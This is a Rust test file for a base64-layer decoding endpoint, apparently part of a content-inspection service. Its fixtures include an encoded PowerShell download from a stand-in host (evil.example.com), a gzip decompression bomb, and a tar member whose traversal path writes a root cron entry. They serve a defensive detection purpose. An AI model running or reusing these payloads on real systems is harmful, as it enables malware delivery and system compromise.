//! Encoded layers at the boundary: text and tables, every form, every outcome.

use serde_json::{Value, json};
use tests::service::{QUIET, Service, client, json as read};

const PATH: &str = "/v1/decode/base64";

/// `powershell -enc ` and, encoded once more, a download; encoded.
const TWICE: &str = "cG93ZXJzaGVsbCAtZW5jIFNXNTJiMnRsTFZkbFlsSmxjWFZsYzNRZ2FIUjBjRG92TDJWMmFXd3VaWGhoYlhCc1pTNWpiMjB2Y0dGNWJHOWhaQzVsZUdVZ0xVOTFkRVpwYkdVZ1lTNWxlR1U9";

#[tokio::test]
async fn every_layer_is_told() {
    let service = Service::start(QUIET).await;
    let answer = service.call(PATH, &json!({ "text": format!("cmd /c {TWICE} end") })).await;
    let rows = answer["rows"].as_array().unwrap();
    assert_eq!((answer["row_count"].as_u64(), rows.len(), &answer["layers_left_out"]), (Some(2), 2, &json!(false)));
    for (row, index, depth, md5) in [
        (&rows[0], "1", 1, "3dc1502f5472e07062fc1584244504b1"),
        (&rows[1], "1.1", 2, "5a78e3583c8bea3a069b7b9edd05e910"),
    ] {
        assert_eq!((&row["index"], &row["depth"], &row["md5"]), (&json!(index), &json!(depth), &json!(md5)));
        assert_eq!(
            (&row["packing"], &row["encoding"], &row["outcome"]),
            (&json!("base64"), &json!("utf-8"), &json!("decoded"))
        );
    }
    assert_eq!(rows[1]["text"], "Invoke-WebRequest http://evil.example.com/payload.exe -OutFile a.exe");
    assert_eq!(rows[1]["parent_index"], "1");
    assert_eq!((&rows[0]["original"], &rows[0]["offset"]), (&json!(TWICE), &json!(7)));
    assert!(answer["decoded"].as_str().unwrap().starts_with("cmd /c powershell -enc Invoke-WebRequest"));
    assert!(rows[0].get("source_row").is_none(), "a text has no rows");
}

#[tokio::test]
async fn rows_are_searched_in_the_columns_that_are_named() {
    let service = Service::start(QUIET).await;
    let rows = json!([{ "a": "nothing", "b": TWICE }, { "a": TWICE, "b": 5 }]);
    let answer = service.call(PATH, &json!({ "rows": rows })).await;
    let places: Vec<_> = answer["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| (row["source_row"].clone(), row["source_column"].clone()))
        .collect();
    assert_eq!(
        places,
        [(json!(0), json!("b")), (json!(0), json!("b")), (json!(1), json!("a")), (json!(1), json!("a"))]
    );
    let only = service.call(PATH, &json!({ "rows": rows, "columns": ["a"] })).await;
    assert_eq!(only["row_count"], 2);
    let request = client().post(format!("{}{PATH}?columns=b", service.base())).header("content-type", "text/csv");
    let request = request.header("accept", "text/csv").body(format!("a,b\r\nx,{TWICE}\r\n"));
    let csv = request.send().await.unwrap().text().await.unwrap();
    assert_eq!(csv.lines().count(), 3, "{csv}");
    assert!(csv.starts_with("source_row,source_column,index,"), "{csv}");
}

#[tokio::test]
async fn a_bomb_is_an_outcome() {
    use std::io::Write as _;
    let service = Service::start(QUIET).await;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&vec![0; 100 << 20]).unwrap();
    let text = base64(&encoder.finish().unwrap());
    let answer = service.call(PATH, &json!({ "text": text })).await;
    let outcomes: Vec<_> = answer["rows"].as_array().unwrap().iter().map(|row| row["outcome"].clone()).collect();
    assert_eq!(outcomes, ["decoded", "ratio_exceeded"], "{outcomes:?}");
    assert_eq!(answer["rows"][1]["text"], Value::Null);
}

#[tokio::test]
async fn a_name_in_an_archive_that_leads_elsewhere_is_said() {
    let service = Service::start(QUIET).await;
    let mut header = tar::Header::new_gnu();
    let name = b"../../etc/cron.d/x";
    header.as_old_mut().name[..name.len()].copy_from_slice(name);
    let content = b"* * * * * root sh";
    header.set_size(content.len() as u64);
    header.set_cksum();
    let mut archive = tar::Builder::new(Vec::new());
    archive.append(&header, &content[..]).unwrap();
    let answer = service.call(PATH, &json!({ "text": base64(&archive.into_inner().unwrap()) })).await;
    let member = answer["rows"].as_array().unwrap().iter().find(|row| !row["archive_member"].is_null()).unwrap();
    assert_eq!(
        (&member["archive_member"], &member["outcome"], &member["text"]),
        (&json!("../../etc/cron.d/x"), &json!("unsafe_name"), &json!("* * * * * root sh"))
    );
}

/// Base64 by hand: the tests have no library for it.
fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let number = (0..3).fold(0_usize, |number, at| number << 8 | usize::from(*chunk.get(at).unwrap_or(&0)));
        let digits = (0..4).map(|at| char::from(DIGITS[number >> (18 - 6 * at) & 63]));
        text.extend(digits.take(chunk.len() + 1));
        text.extend(std::iter::repeat_n('=', 3 - chunk.len()));
    }
    text
}

#[tokio::test]
async fn limits_are_checked_where_they_stand() {
    let service = Service::start(QUIET).await;
    for (body, pointer) in [
        (json!({ "text": "x", "max_depth": 0 }), "/max_depth"),
        (json!({ "text": "x", "max_depth": 21 }), "/max_depth"),
        (json!({ "text": "x", "max_bytes": 0 }), "/max_bytes"),
        (json!({ "text": "x", "min_length": 1 }), "/min_length"),
        (json!({ "text": "x", "encodings": ["rot13"] }), "/encodings/0"),
        (json!({ "text": "x", "columns": ["a"] }), "/columns"),
        (json!({ "rows": [{ "a": "x" }], "columns": ["b"] }), "/columns/0"),
        (json!({ "text": "x", "rows": [] }), ""),
        (json!({}), ""),
        (json!({ "txt": "x" }), "/txt"),
    ] {
        let (status, problem) = service.refused(PATH, &body).await;
        assert_eq!((status, &problem["errors"][0]["pointer"]), (400, &json!(pointer)), "{body}: {problem}");
    }
    let shallow = service.call(PATH, &json!({ "text": TWICE, "max_depth": 1 })).await;
    assert_eq!(shallow["rows"][1]["outcome"], "too_deep");
    let none = service.call(PATH, &json!({ "text": TWICE, "encodings": ["url"] })).await;
    assert_eq!((none["row_count"].as_u64(), none.get("decoded")), (Some(0), None));
    let (status, _) = read(service.post(PATH, &json!({ "rows": [] })).send().await.unwrap()).await;
    assert_eq!(status, 200);
}
